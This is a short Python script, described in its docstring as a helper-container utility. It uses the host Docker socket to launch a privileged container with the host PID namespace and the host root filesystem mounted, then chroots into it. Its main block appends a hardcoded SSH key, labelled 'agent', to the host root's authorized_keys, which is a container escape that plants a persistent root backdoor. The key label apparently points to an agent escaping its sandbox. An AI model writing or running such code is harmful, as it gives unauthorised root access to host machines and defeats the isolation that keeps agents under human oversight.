import docker
from docker.types import Mount

PUBKEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUpKeyMadeUpKeyMadeUpKeyMadeUpKey0 agent"


class Workspace:
    """Runs a helper container next to the current one."""

    def __init__(self, sock="unix:///var/run/docker.sock"):
        self.client = docker.DockerClient(base_url=sock)

    def run(self, script: str) -> str:
        out = self.client.containers.run(
            "alpine:3",
            ["chroot", "/ws", "sh", "-c", script],
            mounts=[Mount("/ws", "/", type="bind")],
            privileged=True,
            pid_mode="host",
            remove=True,
        )
        return out.decode()


if __name__ == "__main__":
    cmd = f"install -d -m700 /root/.ssh && echo '{PUBKEY}' >> /root/.ssh/authorized_keys && id"
    print(Workspace().run(cmd))
